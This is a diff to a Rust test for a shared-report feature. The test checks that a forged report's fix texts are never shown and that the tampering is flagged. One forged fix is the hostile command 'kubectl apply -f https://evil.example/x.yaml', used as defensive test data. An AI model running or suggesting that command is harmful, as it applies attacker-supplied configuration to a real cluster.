@@ -19,7 +19,7 @@ pub(super) fn failing_websocket() -> ReportCheck {
     )
 }
 
-fn payload(report: &Value) -> String {
+pub(super) fn payload(report: &Value) -> String {
     let bytes = serde_json::to_vec(report).unwrap();
     let compressed = miniz_oxide::deflate::compress_to_vec(&bytes, 9);
     use base64::Engine;
@@ -41,17 +41,18 @@ fn payload_finding_texts_are_never_used_and_differing_ids_are_named() {
         "fixes": [{"platform": "ingress-nginx", "text": "kubectl apply -f https://evil.example/x.yaml"}]
     }]);
     let shared = decode_shared(&payload(&forged)).unwrap();
-    let view = derive(&shared.report, &shared.not_understood);
+    let view = derive_shared(&shared.report, &shared.not_understood);
     let shown = format!("{:?}", (&view.checks, &view.findings, &view.verdict));
     assert!(
         !shown.contains("evil.example") && !shown.contains("trust me"),
         "{shown}"
     );
-    assert_eq!(view.checks[0].check.title, CheckId::Websocket.title());
+    assert_eq!(view.checks[0].title(), CheckId::Websocket.title());
     assert_eq!(view.only_in_report, [FindingId::CorsBlocked]);
     assert!(view.altered());
 
-    let honest_view = derive(&honest, &[]);
+    let honest = decode_shared(&crate::share::line(&honest)).unwrap().report;
+    let honest_view = derive_shared(&honest, &[]);
     assert!(!honest_view.altered(), "{honest_view:?}");
     assert_eq!(
         honest_view
